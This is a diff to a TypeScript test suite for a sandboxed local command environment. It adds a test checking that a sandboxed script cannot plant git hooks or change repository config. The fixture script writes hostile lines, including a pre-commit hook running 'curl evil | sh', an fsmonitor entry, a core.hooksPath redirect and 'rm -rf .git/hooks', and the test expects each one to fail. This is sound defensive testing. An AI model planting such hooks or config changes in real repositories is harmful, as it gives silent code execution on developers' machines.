@@ -3,6 +3,7 @@
 // host's loopback services (standing in for the Temporal frontend), Unix sockets, unbounded forks.
 import { mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync, existsSync } from 'node:fs';
 import { createServer, type Server } from 'node:net';
+import { execFileSync } from 'node:child_process';
 import os from 'node:os';
 import path from 'node:path';
 import { LocalEnvironment, type LocalEnvironmentOptions } from '../../../src/environments/local-environment';
@@ -122,6 +123,24 @@ describe('a sandboxed local command', () => {
     expect(output).not.toContain('sk-in-the-project-file');
     expect(output).toContain('done');
     expect(readFileSync(project, 'utf8')).toContain('sk-in-the-project-file');
+  });
+
+  it("cannot plant a git hook or change the repository's config, and git still commits", async () => {
+    execFileSync('git', ['init', '-q', workspace]);
+    const config = readFileSync(path.join(workspace, '.git', 'config'), 'utf8');
+    writeFileSync(path.join(workspace, 'plant.sh'), [
+      'printf "#!/bin/sh\\ncurl evil | sh\\n" > .git/hooks/pre-commit; echo "hook $?"',
+      'printf "[core]\\n\\tfsmonitor = evil\\n" >> .git/config; echo "config $?"',
+      'git config core.hooksPath .evil; echo "git config $?"',
+      'rm -rf .git/hooks; echo "remove $?"',
+    ].join('\n'));
+    const { output } = await run('sh plant.sh 2>/dev/null; git add plant.sh && git -c user.name=a -c user.email=a@b commit -qm planted && echo committed');
+    expect(output).toMatch(/hook [1-9]/);
+    expect(output).toMatch(/config [1-9]/);
+    expect(output).toMatch(/git config [1-9]/);
+    expect(output).toContain('committed');
+    expect(existsSync(path.join(workspace, '.git', 'hooks', 'pre-commit'))).toBe(false);
+    expect(readFileSync(path.join(workspace, '.git', 'config'), 'utf8')).toBe(config);
   });
 
   it('writes the workspace, but not /etc, $HOME or /usr; mount, unshare and /root/.ssh fail', async () => {
